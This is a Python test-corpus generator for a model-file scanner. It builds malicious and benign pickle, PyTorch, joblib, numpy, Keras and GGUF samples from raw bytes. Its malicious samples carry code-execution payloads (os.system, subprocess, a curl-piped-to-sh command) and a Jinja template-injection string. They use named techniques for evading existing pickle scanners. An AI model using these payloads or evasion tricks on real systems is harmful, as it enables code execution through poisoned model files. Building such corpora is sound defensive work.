"""A labelled corpus of model files, assembled from raw pickle opcodes.

Nothing here is ever unpickled: malicious samples are built byte by byte,
benign look-alikes either byte by byte in the layouts torch, joblib and
numpy really write, or with `pickle.dumps` of plain data. Each malicious
sample names the bypass family it exercises (see shared/docs/models-notes.md).

Run `python tests/scanners/models/model_corpus.py OUTDIR` to write the corpus
to disk (for the benchmark against other scanners), or
`... --example examples/vulnerable-ai-app/models` to regenerate the example app's models.
"""

from __future__ import annotations

import bz2
import collections
import gzip
import io
import lzma
import pickle
import struct
import sys
import tarfile
import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO

# --- opcode assembly -------------------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocols 0-3 style import)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def su(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def bu(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4) with the module and name pushed as strings."""
    return su(module) + su(name) + b"\x93"


def binint(n: int) -> bytes:
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


MARK, STOP, REDUCE, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"R", b"t", b"\x85", b"\x86", b"\x87"
EMPTY_DICT, EMPTY_TUPLE, SETITEMS, SETITEM, BUILD = b"}", b")", b"u", b"s", b"b"
NEWOBJ, MEMOIZE, POP, DUP, NONE = b"\x81", b"\x94", b"0", b"2", b"N"


def call(func: bytes, *args: bytes) -> bytes:
    """`func(*args)` via MARK ... TUPLE REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


# --- zip assembly (our own writer, so archives can be made inconsistent) ----------------------


@dataclass
class Member:
    name: str
    data: bytes = b""
    method: int = 0  # 0 stored, 8 deflate
    flags: int = 0
    crc: int | None = None
    local_name: str | None = None
    in_central: bool = True
    sparse_size: int = 0
    """For `write_zip_file`: a stored member of this many zero bytes, left as a hole."""


def _dos_time() -> tuple[int, int]:
    return 0, (2024 - 1980) << 9 | 1 << 5 | 1


def build_zip(members: Sequence[Member], prefix: bytes = b"", comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(prefix)
    _write_zip(out, members, comment)
    return out.getvalue()


def write_zip_file(path: Path, members: Sequence[Member]) -> None:
    """Write a zip whose sparse members are holes in the file (sizes can exceed the disk)."""
    with open(path, "wb") as fh:
        _write_zip(fh, members, b"")


def _write_zip(fh: IO[bytes], members: Sequence[Member], comment: bytes) -> None:
    central = []
    tm, dt = _dos_time()
    for m in members:
        offset = fh.tell()
        if m.sparse_size:
            payload_len = m.sparse_size
            crc = 0
            comp = b""
        else:
            raw = m.data
            comp = raw if m.method == 0 else _deflate(raw)
            payload_len = len(comp)
            crc = zlib.crc32(raw) if m.crc is None else m.crc
        usize = m.sparse_size or len(m.data)
        zip64 = usize >= 0xFFFFFFFF or payload_len >= 0xFFFFFFFF or offset >= 0xFFFFFFFF
        lname = (m.local_name if m.local_name is not None else m.name).encode()
        extra = struct.pack("<HHQQ", 1, 16, usize, payload_len) if zip64 else b""
        fh.write(
            struct.pack(
                "<4sHHHHHLLLHH",
                b"PK\x03\x04",
                45 if zip64 else 20,
                m.flags,
                m.method,
                tm,
                dt,
                crc,
                0xFFFFFFFF if zip64 else payload_len,
                0xFFFFFFFF if zip64 else usize,
                len(lname),
                len(extra),
            )
            + lname
            + extra
        )
        if m.sparse_size:
            fh.seek(m.sparse_size, 1)
        else:
            fh.write(comp)
        if m.in_central:
            central.append((m, offset, crc, payload_len, usize))
    cd_start = fh.tell()
    for m, offset, crc, payload_len, usize in central:
        name = m.name.encode()
        zip64 = usize >= 0xFFFFFFFF or payload_len >= 0xFFFFFFFF or offset >= 0xFFFFFFFF
        extra = struct.pack("<HHQQQ", 1, 24, usize, payload_len, offset) if zip64 else b""
        fh.write(
            struct.pack(
                "<4sHHHHHHLLLHHHHHLL",
                b"PK\x01\x02",
                45,
                45 if zip64 else 20,
                m.flags,
                m.method,
                tm,
                dt,
                crc,
                0xFFFFFFFF if zip64 else payload_len,
                0xFFFFFFFF if zip64 else usize,
                len(name),
                len(extra),
                0,
                0,
                0,
                0,
                0xFFFFFFFF if zip64 else offset,
            )
            + name
            + extra
        )
    cd_end = fh.tell()
    cd_size = cd_end - cd_start
    count = len(central)
    if cd_start >= 0xFFFFFFFF or count >= 0xFFFF:
        fh.write(struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, cd_size, cd_start))
        fh.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_end, 1))
        cd_start_field = 0xFFFFFFFF
    else:
        cd_start_field = cd_start
    fh.write(
        struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_start_field, len(comment)) + comment
    )


def _deflate(raw: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(raw) + c.flush()


# --- realistic benign layouts -------------------------------------------------------------


def torch_state_dict_pickle(n_tensors: int = 3) -> bytes:
    """data.pkl as torch.save writes it: an OrderedDict of _rebuild_tensor_v2 calls on persistent storages."""
    body = proto(2) + glob("collections", "OrderedDict") + binput(0) + EMPTY_TUPLE + REDUCE + binput(1) + MARK
    for i in range(n_tensors):
        storage = MARK + bu("storage") + glob("torch", "FloatStorage") + bu(str(i)) + bu("cpu") + binint(4) + TUPLE
        body += (
            bu(f"layer{i}.weight")
            + glob("torch._utils", "_rebuild_tensor_v2")
            + MARK
            + storage
            + b"Q"  # BINPERSID
            + binint(0)
            + binint(2)
            + binint(2)
            + TUPLE2
            + binint(2)
            + binint(1)
            + TUPLE2
            + b"\x89"  # requires_grad False
            + glob("collections", "OrderedDict")
            + EMPTY_TUPLE
            + REDUCE
            + TUPLE
            + REDUCE
        )
    body += SETITEMS + STOP
    return body


def torch_zip(data_pkl: bytes, *, prefix: str = "archive", extra: Sequence[Member] = ()) -> bytes:
    storages = [Member(f"{prefix}/data/{i}", b"\x80\x02\x8c\x05posix" + bytes(range(10)) * 2) for i in range(3)]
    return build_zip(
        [
            Member(f"{prefix}/data.pkl", data_pkl),
            Member(f"{prefix}/byteorder", b"little"),
            *storages,
            Member(f"{prefix}/version", b"3\n"),
            Member(f"{prefix}/.data/serialization_id", b"1234567890"),
            *extra,
        ]
    )


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(main_pickle: bytes) -> bytes:
    """torch's pre-1.6 format: magic, protocol, sys_info, the object, storage keys, then raw storage bytes."""
    magic = pickle.dumps(LEGACY_MAGIC, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2)
    keys = pickle.dumps(["0", "1", "2"], protocol=2)
    raw = b"".join(struct.pack("<q", 4) + b"\x80\x02c" + b"\x00" * 13 for _ in range(3))
    return magic + version + sys_info + main_pickle + keys + raw


def numpy_dtype(code: str, elsize: int = -1) -> bytes:
    return (
        glob("numpy", "dtype")
        + MARK
        + bu(code)
        + b"\x89\x88"
        + TUPLE
        + REDUCE
        + MARK
        + binint(3)
        + bu("<")
        + NONE
        + NONE
        + NONE
        + b"J"
        + struct.pack("<i", elsize)
        + b"J"
        + struct.pack("<i", -1)
        + binint(0)
        + TUPLE
        + BUILD
    )


def joblib_wrapper(shape: tuple[int, ...], code: str, itemsize: int, *, aligned: bool = True) -> tuple[bytes, int]:
    """A NumpyArrayWrapper as joblib pickles it, and the number of raw bytes that must follow."""
    shape_ops = MARK + b"".join(binint(d) for d in shape) + TUPLE
    state = (
        EMPTY_DICT
        + MARK
        + su("subclass")
        + glob("numpy", "ndarray")
        + su("shape")
        + shape_ops
        + su("order")
        + su("C")
        + su("dtype")
        + numpy_dtype(code)
        + su("allow_mmap")
        + b"\x89"
    )
    if aligned:
        state += su("numpy_array_alignment_bytes") + binint(16)
    state += SETITEMS
    ops = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    count = 1
    for d in shape:
        count *= d
    return ops, count * itemsize


def joblib_file(arrays: int = 2, tail: bytes = b"", *, aligned: bool = True) -> bytes:
    """joblib.dump({'coef': array, ...}) layout: raw array bytes sit inside the pickle stream."""
    out = proto(4) + EMPTY_DICT + MARK
    for i in range(arrays):
        ops, nbytes = joblib_wrapper((3, 2), "f8", 8, aligned=aligned)
        out += su(f"arr{i}") + ops
        if aligned:
            pos = len(out) + 1
            pad = 16 - pos % 16
            out += bytes([pad]) + b"\xff" * pad
        # Array bytes that look like opcodes: a pickle scanner that does not skip
        # them would misparse the rest of the stream.
        out += (b"cos\nsystem\n" + b"\x00" * nbytes)[:nbytes]
    out += tail + SETITEMS + STOP
    return out


def npy(descr: str, shape: tuple[int, ...], data: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode("latin-1")
    total = 10 + len(header) + 1
    header += b" " * ((64 - total % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def sklearn_like() -> bytes:
    """A fitted estimator as pickle protocol 4 writes it, arrays via numpy's _reconstruct."""
    arr = (
        glob("numpy.core.multiarray", "_reconstruct")
        + glob("numpy", "ndarray")
        + binint(0)
        + TUPLE1
        + b"C\x01b"
        + TUPLE3
        + REDUCE
        + MARK
        + binint(1)
        + binint(2)
        + TUPLE1
        + numpy_dtype("f8")
        + b"\x89"
        + b"C\x10"
        + b"\x00" * 16
        + TUPLE
        + BUILD
    )
    return (
        proto(4)
        + sglob("sklearn.linear_model._logistic", "LogisticRegression")
        + MEMOIZE
        + EMPTY_TUPLE
        + NEWOBJ
        + EMPTY_DICT
        + MARK
        + su("C")
        + b"G"
        + struct.pack(">d", 1.0)
        + su("coef_")
        + arr
        + su("classes_")
        + arr
        + su("_sklearn_version")
        + su("1.5.0")
        + SETITEMS
        + BUILD
        + STOP
    )


def hf_training_args() -> bytes:
    """training_args.bin: a TrainingArguments dataclass with enum fields."""
    return (
        proto(4)
        + sglob("transformers.training_args", "TrainingArguments")
        + EMPTY_TUPLE
        + NEWOBJ
        + EMPTY_DICT
        + MARK
        + su("output_dir")
        + su("out")
        + su("eval_strategy")
        + sglob("transformers.trainer_utils", "IntervalStrategy")
        + MARK
        + su("steps")
        + TUPLE
        + REDUCE
        + su("logging_dir")
        + sglob("pathlib", "PosixPath")
        + MARK
        + su("runs")
        + TUPLE
        + REDUCE
        + SETITEMS
        + BUILD
        + STOP
    )


def tar_bytes(files: Sequence[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def safetensors_file() -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    return struct.pack("<Q", len(header)) + header + b"\x00" * 8


def pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(number: int, payload: bytes | str | int) -> bytes:
    """One protobuf field: varint for ints, length-delimited otherwise."""
    if isinstance(payload, int):
        return pb_varint(number << 3) + pb_varint(payload)
    raw = payload.encode() if isinstance(payload, str) else payload
    return pb_varint(number << 3 | 2) + pb_varint(len(raw)) + raw


def onnx_model(location: str = "", domain: str = "", raw_weights: int = 64) -> bytes:
    tensor = pb(1, 2) + pb(2, 1) + pb(8, "w") + pb(9, b"\x00" * raw_weights)
    if location:
        tensor = pb(1, 2) + pb(2, 1) + pb(8, "w") + pb(13, pb(1, "location") + pb(2, location)) + pb(14, 1)
    node = pb(1, "x") + pb(1, "w") + pb(2, "y") + pb(3, "mm") + pb(4, "MatMul") + pb(7, domain)
    subgraph = pb(1, pb(4, "Identity")) + pb(5, tensor)
    if_node = pb(4, "If") + pb(5, pb(1, "then_branch") + pb(6, subgraph))
    graph = pb(1, node) + pb(1, if_node) + pb(2, "g") + pb(5, tensor)
    return pb(1, 8) + pb(2, "pytorch") + pb(8, pb(1, "") + pb(2, 17)) + pb(7, graph)


def tf_saved_model(ops: Sequence[str]) -> bytes:
    nodes = b"".join(pb(1, pb(1, f"n{i}") + pb(2, op)) for i, op in enumerate(ops))
    library = pb(2, pb(1, pb(1, pb(1, "fn")) + pb(3, pb(1, "inner") + pb(2, "Identity"))))
    return pb(1, 1) + pb(2, pb(1, pb(1, "serve")) + pb(2, nodes + library))


def gguf_file(template: str) -> bytes:
    def gstr(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    kvs = [
        gstr("general.architecture") + struct.pack("<I", 8) + gstr("llama"),
        gstr("llama.context_length") + struct.pack("<I", 4) + struct.pack("<I", 4096),
        gstr("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 3) + gstr("<s>") + gstr("</s>") + gstr("hi"),
        gstr("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 6, 3) + b"\x00" * 12,
        gstr("tokenizer.chat_template") + struct.pack("<I", 8) + gstr(template),
    ]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + b"".join(kvs)


SAFE_TEMPLATE = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] + eos_token }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"
)
SSTI_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"
)


def keras_config(layers: Sequence[Mapping[str, object]]) -> bytes:
    import json

    return json.dumps(
        {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": list(layers)}}
    ).encode()


DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4}}
KERAS_LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}},
}
KERAS_OS = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}


KERAS2_DENSE = {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "units": 4, "activation": "relu"}}
KERAS2_LAMBDA = {
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "trainable": True,
        "function": ["4wEAAAAAAAAAAAAAAAAAAAAEAAAAEwAAAHMEAAAAfABTAKkBTg==", None, None],
        "function_type": "lambda",
        "module": "keras.layers",
        "output_shape": None,
        "arguments": {},
    },
}


def keras_saved_metadata(layers: Sequence[Mapping[str, object]]) -> bytes:
    """keras_metadata.pb as tf.keras 2.x writes it: one SavedObject (field 1) per model and layer,
    each with node_id (2), node_path (3), identifier (4) and the config JSON as metadata (5)."""
    import json

    model = {"class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}}
    nodes = [pb(1, pb(2, 0) + pb(3, "root") + pb(4, "_tf_keras_sequential") + pb(5, json.dumps(model)))]
    for i, layer in enumerate(layers):
        meta = json.dumps({"name": f"layer{i}", **layer})
        nodes.append(pb(1, pb(2, i + 1) + pb(3, f"root.layer-{i}") + pb(4, "_tf_keras_layer") + pb(5, meta)))
    return b"".join(nodes)


def keras_file(layers: Sequence[Mapping[str, object]]) -> bytes:
    return build_zip(
        [
            Member("metadata.json", b'{"keras_version": "3.5.0"}'),
            Member("config.json", keras_config(layers), method=8),
            Member("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64),
        ]
    )


def h5_with_config(layers: Sequence[Mapping[str, object]]) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 200 + b"model_config\x00" + keras_config(layers) + b"\x00" * 64


def safetensors_bad_offsets() -> bytes:
    header = (
        b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[4],"data_offsets":[4,20]}}'
    )
    return struct.pack("<Q", len(header)) + header + b"\x00" * 20


# --- payloads ------------------------------------------------------------------------------

SHELL = "curl -s http://127.0.0.1:9/x | sh"


def p_os_system(p: int = 2) -> bytes:
    return proto(p) + call(glob("os", "system"), bu(SHELL)) + STOP


@dataclass
class Sample:
    name: str
    data: bytes
    family: str
    malicious: bool
    note: str = ""
    expect_rules: tuple[str, ...] = field(default_factory=tuple)


def malicious() -> list[Sample]:
    s: list[Sample] = []

    def add(name: str, data: bytes, family: str, note: str = "", rules: tuple[str, ...] = ()) -> None:
        s.append(Sample(name, data, family, True, note, rules or ("models/pickle-code-execution",)))

    # direct imports, every protocol and import opcode
    add("p0_global_reduce.pkl", b"cos\nsystem\n(S'id'\ntR.", "direct", "protocol 0 GLOBAL + REDUCE")
    add("p1_binstring.pkl", b"cposix\nsystem\n(U\x02idtR.", "direct", "protocol 1 SHORT_BINSTRING")
    add("p2_global.pkl", p_os_system(2), "direct")
    add(
        "p4_stack_global.pkl", proto(4) + sglob("os", "system") + MEMOIZE + bu(SHELL) + TUPLE1 + REDUCE + STOP, "direct"
    )
    add("p5_subprocess.pkl", proto(5) + call(sglob("subprocess", "check_output"), su("id")) + STOP, "direct")
    add("inst_opcode.pkl", b"(S'id'\nios\nsystem\n.", "opcode-variant", "INST builds and calls in one opcode")
    add("obj_opcode.pkl", b"(cpty\nspawn\nS'/bin/sh'\no.", "opcode-variant", "OBJ (fickling bypass via pty.spawn)")
    add(
        "newobj_popen.pkl",
        proto(2) + glob("subprocess", "Popen") + MARK + bu("id") + TUPLE + NEWOBJ + STOP,
        "opcode-variant",
    )
    add(
        "newobj_ex.pkl",
        proto(4) + sglob("subprocess", "Popen") + MARK + su("id") + TUPLE + EMPTY_DICT + b"\x92" + STOP,
        "opcode-variant",
    )
    add("py2_builtin_eval.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", "direct", "Python 2 module name")
    add("exec_builtins.pkl", proto(2) + call(glob("builtins", "exec"), bu("import os")) + STOP, "direct")
    # memo confusion (picklescan #14/#22): the memo holds the real values
    add(
        "memo_confusion.pkl",
        proto(4)
        + su("torch._utils")
        + MEMOIZE
        + su("_rebuild_tensor_v2")
        + MEMOIZE
        + POP
        + POP
        + su("os")
        + binput(7)
        + POP
        + su("system")
        + binput(8)
        + POP
        + binget(7)
        + binget(8)
        + b"\x93"
        + su("id")
        + TUPLE1
        + REDUCE
        + STOP,
        "memo",
    )
    add(
        "memo_put_after_pop.pkl",
        proto(4)
        + su("subprocess")
        + DUP
        + POP
        + binput(1)
        + su("getoutput")
        + binput(2)
        + b"\x93"
        + su("id")
        + TUPLE1
        + REDUCE
        + STOP,
        "memo",
        "BINPUT after DUP/POP",
    )
    add(
        "long_binget.pkl",
        proto(4)
        + su("os")
        + b"r"
        + struct.pack("<I", 0xFFFFFFF0)
        + su("system")
        + b"\x93"
        + su("id")
        + TUPLE1
        + REDUCE
        + STOP,
        "memo",
        "huge memo index",
    )
    # indirection gadgets
    import_os = call(glob("builtins", "__import__"), bu("os"))
    add(
        "getattr_chain.pkl",
        proto(2)
        + glob("builtins", "getattr")
        + MARK
        + import_os
        + bu("system")
        + TUPLE
        + REDUCE
        + MARK
        + bu("id")
        + TUPLE
        + REDUCE
        + STOP,
        "indirection",
    )
    add(
        "attrgetter.pkl",
        proto(2)
        + call(call(glob("operator", "attrgetter"), bu("system")), call(glob("importlib", "import_module"), bu("os")))
        + STOP,
        "indirection",
    )
    add(
        "functools_partial.pkl",
        proto(2) + call(call(glob("functools", "partial"), glob("os", "system"), bu("id"))) + STOP,
        "indirection",
    )
    add(
        "pkgutil_resolve.pkl",
        proto(2) + call(call(glob("pkgutil", "resolve_name"), bu("os:system")), bu("id")) + STOP,
        "indirection",
    )
    add(
        "vars_dict_get.pkl",
        proto(4)
        + call(
            call(
                sglob("builtins", "dict.get"),
                call(sglob("builtins", "vars"), call(sglob("importlib", "import_module"), su("os"))),
                su("system"),
            ),
            su("id"),
        )
        + STOP,
        "indirection",
    )
    add(
        "numpy_builtins_dunder.pkl",
        proto(4)
        + call(call(sglob("builtins", "dict.get"), sglob("numpy", "__builtins__"), su("exec")), su("import os"))
        + STOP,
        "dunder",
        "modelscan #89",
    )
    add(
        "dotted_dunder.pkl",
        proto(4) + call(sglob("collections", "OrderedDict.__init__.__globals__"), su("x")) + STOP,
        "dunder",
        "protocol 4 dotted attribute path",
    )
    add(
        "copyreg_reconstructor.pkl",
        proto(2)
        + call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"), bu("id"))
        + STOP,
        "copyreg",
    )
    add("ext_registry.pkl", proto(2) + b"\x82\x01" + MARK + bu("id") + TUPLE + REDUCE + STOP, "copyreg", "EXT1 code")
    add(
        "marshal_function.pkl",
        proto(2)
        + call(glob("types", "FunctionType"), call(glob("marshal", "loads"), b"C\x04\xe3\x00\x00\x00"), EMPTY_DICT)
        + STOP,
        "indirection",
    )
    # unresolvable import: the module name is computed by a call
    add(
        "computed_module.pkl",
        proto(4)
        + call(sglob("_codecs", "encode"), su("os"), su("latin1"))
        + su("system")
        + b"\x93"
        + su("id")
        + TUPLE1
        + REDUCE
        + STOP,
        "unresolvable",
    )
    # sub-modules and attribute paths that exact-module deny-lists miss (CVE-2025-10157)
    add(
        "asyncio_submodule.pkl",
        proto(4) + call(sglob("asyncio.unix_events", "_UnixSubprocessTransport"), su("x")) + STOP,
        "submodule",
    )
    add(
        "code_runcode.pkl",
        proto(4) + call(sglob("code", "InteractiveInterpreter.runcode"), su("x")) + STOP,
        "submodule",
    )
    # deny-list gaps of the anchors (CVEs against picklescan/modelscan)
    for i, (mod, name) in enumerate(
        [
            ("pip", "main"),
            ("uuid", "_get_command_stdout"),
            ("logging", "FileHandler"),
            ("_io", "FileIO"),
            ("distutils.file_util", "write_file"),
            ("torch.storage", "_load_from_bytes"),
            ("runpy", "_run_code"),
            ("timeit", "timeit"),
            ("cProfile", "run"),
            ("pdb", "run"),
            ("ctypes", "CDLL"),
            ("socket", "create_connection"),
            ("webbrowser", "open"),
            ("shutil", "rmtree"),
            ("_posixsubprocess", "fork_exec"),
            ("multiprocessing.util", "spawnv_passfds"),
            ("numpy.testing._private.utils", "runstring"),
            ("torch.hub", "load"),
            ("torch.jit", "load"),
            ("imaplib", "IMAP4_stream"),
            ("_pyrepl.pager", "pipe_pager"),
            ("idlelib.pyshell", "ModifiedInterpreter"),
            ("builtins", "breakpoint"),
            ("importlib._bootstrap", "_call_with_frames_removed"),
        ]
    ):
        add(
            f"denylist_{i:02d}_{mod.replace('.', '_')}.pkl",
            proto(4) + call(sglob(mod, name), su("x")) + STOP,
            "denylist-gap",
        )
    # BUILD gadgets: attribute writes on imported objects
    add(
        "build_setattr_global.pkl",
        proto(2)
        + glob("torch._utils", "_rebuild_tensor_v2")
        + NONE
        + EMPTY_DICT
        + bu("__code__")
        + NONE
        + SETITEM
        + TUPLE2
        + BUILD
        + STOP,
        "build",
        "modelscan #85",
    )
    add(
        "build_dunder_slot.pkl",
        proto(2)
        + glob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + NONE
        + EMPTY_DICT
        + bu("__reduce__")
        + NONE
        + SETITEM
        + TUPLE2
        + BUILD
        + STOP,
        "build",
    )
    add(
        "sys_path_append.pkl",
        proto(2) + glob("sys", "path") + bu("/tmp/evil") + b"a" + STOP,
        "build",
        "APPEND on an imported list",
    )
    add(
        "popped_call.pkl",
        proto(2) + call(glob("os", "system"), bu("id")) + POP + NONE + STOP,
        "popped",
        "call result discarded (fickling dropped these)",
    )
    add("pandas_reader.pkl", proto(4) + call(sglob("pandas", "read_pickle"), su("/tmp/x.pkl")) + STOP, "denylist-gap")
    add("uuid_getnode.pkl", proto(4) + call(sglob("uuid", "_ifconfig_getnode")) + STOP, "denylist-gap")
    # broken streams (nullifAI): the payload runs before the break
    add(
        "broken_after_payload.pkl",
        p_os_system(2)[:-1] + b"\xff\xff\xff",
        "broken",
        rules=("models/pickle-code-execution", "models/malformed-model"),
    )
    add(
        "truncated_after_payload.pkl",
        p_os_system(2)[:-1] + bu("x")[:3],
        "broken",
        rules=("models/pickle-code-execution", "models/malformed-model"),
    )
    # stacked pickles: only a later one is malicious
    benign_first = pickle.dumps({"a": 1}, protocol=2)
    add("stacked_second.pkl", benign_first + p_os_system(2), "stacked")
    add("stacked_sixth.pkl", benign_first * 5 + p_os_system(2), "stacked", "beyond picklescan's five")
    # extension/format confusion (CVE-2025-10155, CVE-2025-1889)
    add("raw_pickle_named.bin", p_os_system(2), "extension", "raw pickle with a torch extension")
    add("raw_pickle_named.pt", p_os_system(4), "extension")
    add("odd_extension.dat2", p_os_system(2), "extension")
    # PyTorch formats
    add("torch_zip_payload.pt", torch_zip(p_os_system(2)), "pytorch-zip")
    add("torch_legacy_payload.pt", torch_legacy(p_os_system(2)), "pytorch-legacy")
    add(
        "torch_tar_payload.tar",
        tar_bytes(
            [
                ("sys_info", pickle.dumps({"x": 1}, protocol=2)),
                ("pickle", p_os_system(2)),
                ("storages", pickle.dumps(0, protocol=2)),
                ("tensors", pickle.dumps(0, protocol=2)),
            ]
        ),
        "pytorch-tar",
    )
    add(
        "torchscript_constants.pt",
        build_zip(
            [
                Member("m/code/__torch__.py", b"def f(): pass\n"),
                Member("m/data.pkl", torch_state_dict_pickle(1)),
                Member("m/constants.pkl", p_os_system(2)),
            ]
        ),
        "pytorch-zip",
    )
    # zip parser differentials (CVE-2025-1944/1945/10156, modelscan #354)
    clean = torch_state_dict_pickle()
    add(
        "zip_bad_crc.pt",
        build_zip([Member("archive/data.pkl", p_os_system(2), crc=0xDEADBEEF), Member("archive/version", b"3\n")]),
        "zip-differential",
        rules=("models/pickle-code-execution", "models/malformed-model"),
    )
    add(
        "zip_name_mismatch.pt",
        build_zip(
            [
                Member("archive/data.pkl", p_os_system(2), local_name="archive/other.pkl"),
                Member("archive/version", b"3\n"),
            ]
        ),
        "zip-differential",
        rules=("models/pickle-code-execution", "models/malformed-model"),
    )
    add(
        "zip_encrypted_flag.pt",
        build_zip([Member("archive/data.pkl", p_os_system(2), flags=1), Member("archive/version", b"3\n")]),
        "zip-differential",
        rules=("models/pickle-code-execution", "models/malformed-model"),
    )
    add(
        "zip_duplicate_first.pt",
        build_zip(
            [
                Member("archive/data.pkl", p_os_system(2)),
                Member("archive/data.pkl", clean),
                Member("archive/version", b"3\n"),
            ]
        ),
        "zip-differential",
        "torch loads the first duplicate",
    )
    add(
        "zip_bad_member_first.pt",
        build_zip(
            [
                Member("archive/a_broken.pkl", b"\x80\x02" + b"\xff" * 20, crc=1),
                Member("archive/data.pkl", p_os_system(2)),
                Member("archive/version", b"3\n"),
            ]
        ),
        "zip-differential",
        "modelscan #354 fail-open",
    )
    add(
        "zip_local_only.zip",
        build_zip([Member("hidden.pkl", p_os_system(2), in_central=False), Member("readme.txt", b"hello")]),
        "zip-differential",
        "entry only in local headers",
    )
    add(
        "zip_member_no_ext.zip",
        build_zip([Member("weights", p_os_system(2), method=8)]),
        "zip-differential",
        "member sniffed by content",
    )
    add(
        "zip_prefixed_polyglot.pt",
        b"garbage-before-archive"
        + build_zip([Member("archive/data.pkl", p_os_system(2)), Member("archive/version", b"3\n")]),
        "polyglot",
    )
    add(
        "pickle_zip_polyglot.pkl",
        p_os_system(2) + build_zip([Member("archive/data.pkl", clean), Member("archive/version", b"3\n")]),
        "polyglot",
        "pickle at 0 and a zip at the end",
    )
    add(
        "nested_zip.zip",
        build_zip([Member("inner.zip", build_zip([Member("model/data.pkl", p_os_system(2))]), method=8)]),
        "nested",
    )
    add("zip_in_tar_gz.tar.gz", gzip.compress(tar_bytes([("model.pt", torch_zip(p_os_system(2)))]), mtime=0), "nested")
    # compression wrappers
    add("gzip_wrapped.pkl.gz", gzip.compress(p_os_system(2), mtime=0), "compressed")
    add("bz2_wrapped.pkl.bz2", bz2.compress(p_os_system(2)), "compressed")
    add("xz_wrapped.pkl.xz", lzma.compress(p_os_system(2)), "compressed")
    add("zlib_joblib.joblib", zlib.compress(p_os_system(4)), "compressed", "joblib compress=True")
    add("lzma_alone.joblib", lzma.compress(p_os_system(4), format=lzma.FORMAT_ALONE), "compressed")
    # joblib: the payload after the raw array bytes (a blind spot for every anchor)
    add("joblib_after_array.joblib", joblib_file(2, tail=su("evil") + call(sglob("os", "system"), su("id"))), "joblib")
    add(
        "joblib_old_unaligned.joblib",
        joblib_file(1, tail=su("evil") + call(sglob("os", "system"), su("id")), aligned=False),
        "joblib",
    )
    # numpy object arrays
    add("object_array.npy", npy("|O", (1,), p_os_system(3)), "numpy")
    add(
        "npz_object.npz",
        build_zip(
            [
                Member("a.npy", npy("<f8", (2,), b"\x00" * 16)),
                Member("b.npy", npy("|O", (1,), p_os_system(3)), method=8),
            ]
        ),
        "numpy",
    )
    # containers that cannot be scanned
    add(
        "sevenzip.pt",
        b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40,
        "unscannable",
        rules=("models/unscannable-container",),
    )
    add(
        "zip_aes.pt",
        build_zip([Member("archive/data.pkl", b"\x00" * 32, method=99)]),
        "unscannable",
        rules=("models/unscannable-container",),
    )
